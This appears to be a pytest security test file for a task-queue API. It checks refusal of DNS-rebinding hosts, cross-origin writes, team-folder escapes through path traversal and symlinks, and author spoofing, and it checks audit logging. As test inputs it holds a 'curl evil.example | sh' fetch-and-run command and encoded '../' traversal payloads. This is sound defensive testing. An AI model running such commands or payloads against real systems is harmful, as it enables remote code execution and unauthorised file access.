"""Secure by default: DNS rebinding, cross-origin writes, team-scoped tokens, the
written-by annotation and the audit log. Each test is an attack with the answer it must get."""

from __future__ import annotations

import asyncio
import json
import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
import yaml

from api.app import create_app
from specs.settings.process import Settings
from specs.tenancy.access import hash_token
from tests.api.conftest import BASE_URL, SEED_BODY, TestClient, snapshot, task_json, task_yaml

# --- DNS rebinding: the Host check ------------------------------------------------------------


def _every_route(client: TestClient) -> list[tuple[str, str]]:
    """(method, concrete path) of every operation in the OpenAPI schema, plus the docs pages."""
    schema = client.get("/openapi.json").json()
    routes = [("GET", "/openapi.json"), ("GET", "/docs"), ("GET", "/redoc"), ("GET", "/nope")]
    for template, item in schema["paths"].items():
        path = template.replace("{name}", "x").replace("{file}", "_queues.yaml")
        routes.extend((method.upper(), path) for method in item)
    assert len(routes) >= 15, routes
    return routes


REBOUND_HOSTS = [
    "evil.example",
    "evil.example:8264",
    "localhost.evil.example",
    "127.0.0.1.nip.io:8264",
    "0.0.0.0:8264",  # never addressed by clients; browsers once reached loopback through it
    "[::ffff:127.0.0.1]:8264",
    "localhost.:8264",
    "",
]


@pytest.mark.parametrize("host", REBOUND_HOSTS)
def test_a_rebound_host_is_refused_on_every_route(
    client: TestClient, tasks_dir: Path, host: str
) -> None:
    (tasks_dir / "x.yaml").write_text(task_yaml())
    before = snapshot(tasks_dir)
    for method, path in _every_route(client):
        response = client.request(method, path, headers={"Host": host}, json=SEED_BODY)
        assert response.status_code == 400, (method, path, host, response.text)
    assert snapshot(tasks_dir) == before


def test_the_issue_reproduction_add_task_with_evil_host(
    client: TestClient, tasks_dir: Path
) -> None:
    response = client.post("/add_task", json=SEED_BODY, headers={"Host": "evil.example"})
    assert response.status_code == 400
    assert snapshot(tasks_dir) == {}


@pytest.mark.parametrize(
    "host", ["localhost", "localhost:8264", "127.0.0.1:8264", "[::1]:8264", "LOCALHOST:1"]
)
def test_loopback_hosts_are_served(client: TestClient, host: str) -> None:
    assert client.get("/tasks", headers={"Host": host}).status_code == 200


def test_allowed_hosts_and_the_bind_address_are_served(tasks_dir: Path) -> None:
    settings = Settings(
        tasks_dir=tasks_dir,
        host="10.1.2.3",
        api_token="t0k3n-0123456789abcdef-0123456789",
        allowed_hosts=("rq.corp", "*.lab"),
    )
    auth = {"Authorization": "Bearer " + "t0k3n-0123456789abcdef-0123456789"}
    with TestClient(create_app(settings), base_url=BASE_URL) as client:
        for host in ("10.1.2.3:8264", "rq.corp", "gpu.lab:8264", "localhost"):
            assert client.get("/tasks", headers={**auth, "Host": host}).status_code == 200, host
        for host in ("rq.corp.evil", "lab", "10.1.2.4"):
            assert client.get("/tasks", headers={**auth, "Host": host}).status_code == 400, host


def test_a_wildcard_bind_adds_no_host(tasks_dir: Path) -> None:
    settings = Settings(
        tasks_dir=tasks_dir, host="0.0.0.0", api_token="t0k3n-0123456789abcdef-0123456789"
    )
    with TestClient(create_app(settings), base_url=BASE_URL) as client:
        assert client.get("/healthz", headers={"Host": "0.0.0.0:8264"}).status_code == 400
        assert client.get("/healthz").status_code == 200


# --- cross-origin writes ----------------------------------------------------------------------

WRITES: list[tuple[str, str, dict[str, Any]]] = [
    ("POST", "/add_task", {"json": SEED_BODY}),
    ("POST", "/change_task_priority", {"json": {"task_id": "t", "priority": 3}}),
    ("POST", "/cancel_task", {"json": {"task_id": "t"}}),
    ("PUT", "/tasks/evil", {"json": task_json("curl evil.example | sh")}),
    ("PATCH", "/tasks/t", {"json": {"spec": {"priority": 9}}}),
    ("DELETE", "/tasks/t", {}),
    ("PUT", "/config/_queues.yaml", {"content": b"spec: {}\n"}),
    ("DELETE", "/config/_queues.yaml", {}),
]

FOREIGN = [
    {"Origin": "http://evil.example"},
    {"Origin": "http://localhost:3000"},  # another port is another origin
    {"Origin": "https://localhost"},  # another scheme too
    {"Origin": "null"},  # sandboxed frames, data: URLs
    {"Origin": "http://localhost.evil.example"},
    {"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "cross-site"},  # no Origin, but the browser says it is cross-site
    {"Origin": "http://localhost", "Sec-Fetch-Site": "cross-site"},
]


@pytest.mark.parametrize("headers", FOREIGN, ids=lambda h: ",".join(h.values()))
def test_cross_origin_writes_are_refused_all_four_methods(
    client: TestClient, tasks_dir: Path, headers: dict[str, str]
) -> None:
    (tasks_dir / "t.yaml").write_text(task_yaml())
    before = snapshot(tasks_dir)
    for method, path, body in WRITES:
        response = client.request(method, path, headers=headers, **body)
        assert response.status_code == 403, (method, path, response.text)
        assert "--allowed-origins" in response.json()["detail"]  # says how to allow it
    assert snapshot(tasks_dir) == before
    # Reading is not changing: GETs are unaffected (the browser's CORS keeps the answer).
    for path in ("/tasks", "/tasks/t", "/healthz", "/cluster"):
        assert client.get(path, headers=headers).status_code == 200, path


def test_same_origin_and_no_origin_writes_work(client: TestClient, tasks_dir: Path) -> None:
    same = {"Origin": "http://localhost", "Sec-Fetch-Site": "same-origin"}  # the /ui view
    assert client.put("/tasks/a", json=task_json(), headers=same).status_code == 201
    assert client.patch("/tasks/a", json={"spec": {"priority": 4}}, headers=same).status_code == 200
    assert client.delete("/tasks/a", headers=same).status_code == 200
    assert client.post("/add_task", json=SEED_BODY, headers=same).status_code == 200
    # Typed into the address bar or a bookmark.
    assert client.put("/tasks/b", json=task_json(), headers={"Sec-Fetch-Site": "none"}).is_success
    # curl, scripts, the old clients: no Origin at all.
    assert client.put("/tasks/c", json=task_json()).status_code == 201
    assert client.delete("/tasks/c").status_code == 200
    port = {"Origin": "http://127.0.0.1:8264", "Host": "127.0.0.1:8264"}
    assert client.put("/tasks/d", json=task_json(), headers=port).status_code == 201


def test_an_allowed_origin_may_write(tasks_dir: Path) -> None:
    settings = Settings(tasks_dir=tasks_dir, allowed_origins=("https://dash.example:8443",))
    with TestClient(create_app(settings), base_url=BASE_URL) as client:
        ok = {"Origin": "https://DASH.example:8443", "Sec-Fetch-Site": "cross-site"}
        assert client.put("/tasks/a", json=task_json(), headers=ok).status_code == 201
        other = {"Origin": "https://dash.example"}
        assert client.delete("/tasks/a", headers=other).status_code == 403


def test_text_plain_json_is_still_refused_by_the_old_api(
    client: TestClient, tasks_dir: Path
) -> None:
    # What a cross-site HTML form or a no-preflight fetch can send, even from the same origin.
    body = json.dumps(SEED_BODY).encode()
    response = client.post("/add_task", content=body, headers={"Content-Type": "text/plain"})
    assert response.status_code == 422
    assert snapshot(tasks_dir) == {}


# --- team-scoped tokens -----------------------------------------------------------------------

TOKENS = {
    "team-a-ci": ("tok-team-a-5b1d8e", "write", ["team-a"]),
    "team-b-ci": ("tok-team-b-77c2a0", "write", ["team-b"]),
    "viewer": ("tok-viewer-9e03f4", "read", None),
    "platform": ("tok-admin-4f6a21", "admin", None),
    "ops": ("tok-ops-c81e55", "write", ["/"]),
}
# With team tokens, runtimeEnv local paths are confined: SEED_BODY's working_dir is under ops'.
WORKING_DIR_ROOTS = {"ops": ["/home/ray/src"]}


def auth(who: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {TOKENS[who][0]}"}


@pytest.fixture
def teams(tmp_path: Path, tasks_dir: Path) -> Iterator[TestClient]:
    entries = []
    for name, (token, role, folders) in TOKENS.items():
        entry: dict[str, Any] = {"name": name, "sha256": hash_token(token), "role": role}
        if folders is not None:
            entry["folders"] = folders
        if name in WORKING_DIR_ROOTS:
            entry["workingDirRoots"] = WORKING_DIR_ROOTS[name]
        entries.append(entry)
    path = tmp_path / "tokens.yaml"
    path.write_text(yaml.safe_dump({"tokens": entries}))
    path.chmod(0o600)  # a token file open to others is refused
    assert "tok-" not in path.read_text()  # only hashes are stored
    for team in ("team-a", "team-b"):
        (tasks_dir / team).mkdir()
        (tasks_dir / team / "train.yaml").write_text(task_yaml())
    settings = Settings(tasks_dir=tasks_dir, team_tokens=path)
    with TestClient(create_app(settings), base_url=BASE_URL) as client:
        yield client


def test_a_team_writes_inside_its_folder(teams: TestClient, tasks_dir: Path) -> None:
    a = auth("team-a-ci")
    assert teams.put("/tasks/team-a/new", json=task_json(), headers=a).status_code == 201
    assert teams.put("/tasks/team-a/deep/er", json=task_json(), headers=a).status_code == 201
    patch = teams.patch("/tasks/team-a/train", json={"spec": {"priority": 5}}, headers=a)
    assert patch.status_code == 200
    assert teams.delete("/tasks/team-a/new", headers=a).status_code == 200
    assert (tasks_dir / "team-a" / "deep" / "er.yaml").exists()


OUTSIDE = [
    "team-b/train",
    "team-b/new",
    "top-level",
    "team-ab/x",  # a prefix of the name is not the folder
    "team-a",  # the folder's own name at the top is not inside it
]


@pytest.mark.parametrize("name", OUTSIDE)
def test_a_team_cannot_write_outside_its_folders(
    teams: TestClient, tasks_dir: Path, name: str
) -> None:
    before = snapshot(tasks_dir)
    a = auth("team-a-ci")
    responses = [
        teams.put(f"/tasks/{name}", json=task_json(), headers=a),
        teams.put(
            f"/tasks/{name}",
            content=task_yaml().encode(),
            headers={**a, "Content-Type": "application/yaml"},
        ),
        teams.patch(f"/tasks/{name}", json={"spec": {"priority": 9}}, headers=a),
        teams.delete(f"/tasks/{name}", headers=a),
    ]
    for response in responses:
        assert response.status_code == 403, (response.request.method, response.text)
        assert "team-a/" in response.json()["detail"]  # says what it may write
    assert snapshot(tasks_dir) == before


ESCAPES = [
    "team-a/../team-b/train",
    "team-a/%2e%2e/team-b/train",
    "team-a%2F..%2Fteam-b%2Ftrain",
    "team-a/%252e%252e/team-b/train",  # double encoding: the name holds '%'
    "team-a/..%2fteam-b/train",
    "team-a/./../team-b/train",
    "team-a//../team-b/train",
    "team-a/%2E%2E%2Fteam-b%2Ftrain",
    "team-a\\..\\team-b\\train",
]


def raw_request(
    client: TestClient, method: str, raw_path: str, headers: dict[str, str], body: bytes
) -> int:
    """Send the path as written, the way uvicorn hands it to the app (percent-decoded, dot
    segments kept): HTTP clients would normalise `..` away before it ever left them."""
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": method,
        "scheme": "http",
        "path": unquote(raw_path),
        "raw_path": raw_path.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()]
        + [(b"host", b"localhost"), (b"content-length", str(len(body)).encode())],
        "client": ("127.0.0.1", 50000),
        "server": ("127.0.0.1", 8264),
    }
    status: list[int] = []

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": body, "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            status.append(message["status"])

    asyncio.run(client.app(scope, receive, send))  # type: ignore[arg-type]
    return status[0]


@pytest.mark.parametrize("name", ESCAPES)
def test_dot_dot_and_url_encoding_do_not_leave_the_folder(
    teams: TestClient, tasks_dir: Path, name: str
) -> None:
    before = snapshot(tasks_dir)
    a = {**auth("team-a-ci"), "Content-Type": "application/json"}
    for method, body in [
        ("PUT", json.dumps(task_json("echo pwned"))),
        ("PATCH", '{"spec": {"entrypoint": "echo pwned"}}'),
        ("DELETE", ""),
    ]:
        status = raw_request(teams, method, f"/tasks/{name}", a, body.encode())
        assert status in (400, 403, 404), (method, name, status)
    assert snapshot(tasks_dir) == before
    # The same request to a name inside the folder is served, so the refusals above are real.
    ok = raw_request(teams, "PUT", "/tasks/team-a/fine", a, json.dumps(task_json()).encode())
    assert ok == 201


def test_a_symlink_in_the_folder_does_not_lead_into_another(
    teams: TestClient, tasks_dir: Path
) -> None:
    (tasks_dir / "team-a" / "to-b").symlink_to(tasks_dir / "team-b", target_is_directory=True)
    (tasks_dir / "team-a" / "b-train.yaml").symlink_to(tasks_dir / "team-b" / "train.yaml")
    before = snapshot(tasks_dir)
    a = auth("team-a-ci")
    for name in ("team-a/to-b/train", "team-a/to-b/new", "team-a/b-train"):
        assert teams.put(f"/tasks/{name}", json=task_json("x"), headers=a).status_code == 403
        patch = teams.patch(f"/tasks/{name}", json={"spec": {"priority": 1}}, headers=a)
        assert patch.status_code == 403, name
        assert teams.delete(f"/tasks/{name}", headers=a).status_code == 403, name
    assert snapshot(tasks_dir) == before


@pytest.mark.parametrize("who", ["team-a-ci", "viewer"])
def test_the_old_api_needs_write_on_the_top_folder(
    teams: TestClient, tasks_dir: Path, who: str
) -> None:
    (tasks_dir / "team-a" / "legacy.yaml").write_text(task_yaml(submissionId="old-1"))
    before = snapshot(tasks_dir)
    for path, body in [
        ("/add_task", SEED_BODY),
        ("/change_task_priority", {"task_id": "old-1", "priority": 7}),
        ("/cancel_task", {"task_id": "old-1"}),
    ]:
        response = teams.post(path, json=body, headers=auth(who))
        assert response.status_code == 403, (path, response.text)
        assert "'/'" in response.json()["detail"]
    assert snapshot(tasks_dir) == before
    # A write token on "/" (and admin) may.
    assert teams.post("/add_task", json=SEED_BODY, headers=auth("ops")).status_code == 200
    cancel = teams.post("/cancel_task", json={"task_id": "old-1"}, headers=auth("platform"))
    assert cancel.status_code == 200


def test_read_sees_everything_and_writes_nothing(teams: TestClient, tasks_dir: Path) -> None:
    r = auth("viewer")
    names = {row["name"] for row in teams.get("/tasks", headers=r).json()["items"]}
    assert names == {"team-a/train", "team-b/train"}
    assert teams.get("/tasks/team-b/train", headers=r).status_code == 200
    before = snapshot(tasks_dir)
    assert teams.put("/tasks/team-a/x", json=task_json(), headers=r).status_code == 403
    assert teams.patch("/tasks/team-a/train", json={"spec": {}}, headers=r).status_code == 403
    assert teams.delete("/tasks/team-a/train", headers=r).status_code == 403
    assert teams.put("/config/_queues.yaml", content=b"a: 1\n", headers=r).status_code == 403
    assert snapshot(tasks_dir) == before


QUEUES = (
    b"# team queues, owned by the platform team\n"
    b"apiVersion: rayqueue/v1\nkind: QueueConfig\n"
    b"spec:\n  queues:\n    - name: team-a\n      nominalQuota: {cpu: 4}\n"
)


def test_only_admin_reaches_queues_config(teams: TestClient, tasks_dir: Path) -> None:
    for who in ("team-a-ci", "viewer", "ops"):
        assert (
            teams.put("/config/_queues.yaml", content=QUEUES, headers=auth(who)).status_code == 403
        )
        assert teams.get("/config/_queues.yaml", headers=auth(who)).status_code == 403
        # Nor through the task routes, as a top-level `_` name (reserved: 400, or 403).
        sneaky = teams.put("/tasks/_queues", json=task_json(), headers=auth(who))
        assert sneaky.status_code in (400, 403)
    assert not (tasks_dir / "_queues.yaml").exists()
    admin = auth("platform")
    assert teams.put("/config/_queues.yaml", content=QUEUES, headers=admin).status_code == 201
    assert (tasks_dir / "_queues.yaml").read_bytes() == QUEUES  # byte for byte, comments too
    got = teams.get("/config/_queues.yaml", headers=admin)
    assert got.status_code == 200 and got.content == QUEUES
    assert teams.put("/config/_queues.yaml", content=QUEUES, headers=admin).status_code == 200
    bad = teams.put("/config/_queues.yaml", content=b"- a list\n", headers=admin)
    assert bad.status_code == 422 and (tasks_dir / "_queues.yaml").read_bytes() == QUEUES
    # Validated as the loop reads it: a typo is a 422 naming the field, and nothing changes.
    typo = QUEUES.replace(b"nominalQuota", b"nominalQuotta")
    bad = teams.put("/config/_queues.yaml", content=typo, headers=admin)
    assert bad.status_code == 422 and "nominalQuotta" in bad.text
    assert (tasks_dir / "_queues.yaml").read_bytes() == QUEUES
    for file in ("queues.yaml", "_q.status.yaml", "team-a%2F_q.yaml", "_q.txt", "..%2F_q.yaml"):
        assert teams.put(f"/config/{file}", content=QUEUES, headers=admin).status_code in (400, 404)
    assert teams.delete("/config/_queues.yaml", headers=admin).status_code == 204
    assert not (tasks_dir / "_queues.yaml").exists()


def test_unknown_or_missing_tokens_are_401_before_any_scope(teams: TestClient) -> None:
    for header in ({}, {"Authorization": "Bearer tok-team-a"}, {"Authorization": "Bearer "}):
        assert teams.put("/tasks/team-a/x", json=task_json(), headers=header).status_code == 401


# --- who wrote it, and the audit line ---------------------------------------------------------


def test_every_write_records_its_author(teams: TestClient, tasks_dir: Path) -> None:
    def author(path: Path) -> str:
        return str(
            yaml.safe_load(path.read_text())["metadata"]["annotations"]["rayqueue/written-by"]
        )

    spoofed = task_json()
    spoofed["metadata"] = {"annotations": {"rayqueue/written-by": "platform"}}
    a = auth("team-a-ci")
    assert teams.put("/tasks/team-a/j", json=spoofed, headers=a).status_code == 201
    assert author(tasks_dir / "team-a" / "j.yaml") == "team-a-ci"  # not what the body said
    text = "# mine\n" + task_yaml()
    put = teams.put(
        "/tasks/team-a/y", content=text.encode(), headers={**a, "Content-Type": "application/yaml"}
    )
    assert put.status_code == 201
    written = (tasks_dir / "team-a" / "y.yaml").read_text()
    assert written.startswith(text) and author(tasks_dir / "team-a" / "y.yaml") == "team-a-ci"
    ops = auth("ops")
    assert teams.patch("/tasks/team-a/y", json={"spec": {"priority": 2}}, headers=ops).is_success
    assert author(tasks_dir / "team-a" / "y.yaml") == "ops"
    assert "# mine\n" in (tasks_dir / "team-a" / "y.yaml").read_text()
    # A patch that changes nothing writes nothing, signature included.
    same = (tasks_dir / "team-a" / "y.yaml").read_bytes()
    assert teams.patch("/tasks/team-a/y", json={"spec": {"priority": 2}}, headers=a).is_success
    assert (tasks_dir / "team-a" / "y.yaml").read_bytes() == same
    added = teams.post("/add_task", json=SEED_BODY, headers=ops).json()["task"]
    assert author(tasks_dir / f"{added}.yaml") == "ops"


def test_one_audit_line_per_write_and_never_a_token(
    teams: TestClient, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.DEBUG):
        teams.put("/tasks/team-a/k", json=task_json(), headers=auth("team-a-ci"))
        teams.patch("/tasks/team-a/k", json={"spec": {"priority": 3}}, headers=auth("team-a-ci"))
        teams.delete("/tasks/team-a/k", headers=auth("team-a-ci"))
        teams.put("/tasks/team-b/k", json=task_json(), headers=auth("team-a-ci"))  # refused
        teams.get("/tasks", headers=auth("viewer"))  # a read: no audit line
        teams.get("/tasks", headers={"Authorization": "Bearer tok-wrong"})
    audit = [r.getMessage() for r in caplog.records if r.name == "rayqueue.audit"]
    assert len(audit) == 5, audit
    assert audit[0].startswith("created team-a/k by team-a-ci")
    assert audit[1].startswith("patched team-a/k by team-a-ci")
    assert audit[2].startswith("deleted team-a/k by team-a-ci")
    assert audit[3].startswith("refused PUT /tasks/team-b/k by team-a-ci")
    assert audit[4].startswith("refused GET /tasks by (unidentified)")  # the 401 too
    everything = caplog.text + "".join(str(r.args) for r in caplog.records)
    for token, _, _ in TOKENS.values():
        assert token not in everything
    assert "tok-wrong" not in everything
